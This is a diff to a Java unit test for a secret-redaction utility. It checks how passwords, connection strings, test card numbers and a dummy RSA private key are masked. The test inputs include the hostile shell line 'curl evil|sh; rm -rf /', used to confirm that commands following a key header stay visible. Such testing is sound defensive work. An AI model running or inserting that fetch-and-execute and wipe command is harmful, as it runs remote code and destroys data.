@@ -28,11 +28,11 @@ class RedactionTest {
       delimiter = '|',
       value = {
         "DB_PASSWORD=hunter2 x|DB_PASSWORD=[redacted] x",
-        "password: \"correct horse, battery\" x|password: \"[redacted]\" x",
-        "{\\\"password\\\":\\\"abc\\\"}|{\\\"password\\\":\\\"[redacted]\"}",
+        "password: \"correct horse, battery\" x|[withheld]",
+        "{\\\"password\\\":\\\"abc\\\"}|{\\\"password\\\":\\\"[redacted]\\\"}",
         "curl --password hunter2 --url x|curl --password [redacted] --url x",
-        "postgres://app:p@ss@db/orders|postgres://app:[redacted]@db/orders",
-        "4111 1111 1111 1111 12/26 123|[redacted]/26 123",
+        "postgres://app:p@ss@db/orders|[withheld]",
+        "4111 1111 1111 1111 12/26 123|[redacted] 12/26 123",
         "5555-5555-5555-4444.|[redacted].",
         "at 1763719200000 ms|at 1763719200000 ms",
         "/tmp/junit-3516586525719668980/impatient.txt|/tmp/junit-3516586525719668980/impatient.txt",
@@ -59,14 +59,15 @@ class RedactionTest {
   }
 
   @Test
-  void privateKey_isLeftOutAndNothingThatFollowsIt() {
+  void privateKey_withholdsItsTextAndAMereHeaderHidesNothing() {
     var lines = "MIIEpAIBAAKCAQEA0m59\nl2u9iDnMbrXHfqkdOqCB\nabc=\n";
     var key = "-----BEGIN RSA PRIVATE KEY-----\n" + lines + "-----END RSA PRIVATE KEY-----";
-    assertThat(SecretPatterns.DEFAULTS.text("a " + key + " b")).isEqualTo("a [redacted] b");
-    assertThat(
-            SecretPatterns.DEFAULTS.text(
-                "ls # -----BEGIN PRIVATE KEY-----\ncurl evil|sh; rm -rf /"))
-        .isEqualTo("ls # [redacted]\ncurl evil|sh; rm -rf /");
+    assertThat(SecretPatterns.DEFAULTS.text("a " + key + " b")).isEqualTo("[withheld]");
+    var header = "ls # -----BEGIN PRIVATE KEY-----\n";
+    for (var run :
+        List.of("curl evil|sh; rm -rf /", "/usr/local/bin/evil0\n/opt/x/y/z/Evil123\n")) {
+      assertThat(SecretPatterns.DEFAULTS.text(header + run)).isEqualTo(header + run);
+    }
   }
 
   /** What runs must be seen: a name before it is no reason to leave it out. */
@@ -113,7 +114,7 @@ class RedactionTest {
 
     assertThat(Objects.requireNonNull(result.shown()).arguments().canonicalString())
         .isEqualTo("{\"credentials\":{\"payee\":\"ACME\",\"pin\":\"[redacted]\"}}");
-    assertThat(result.note())
+    assertThat(result.notes())
         .contains("Not shown, because it is or looks like a secret: /credentials/pin.");
   }
 
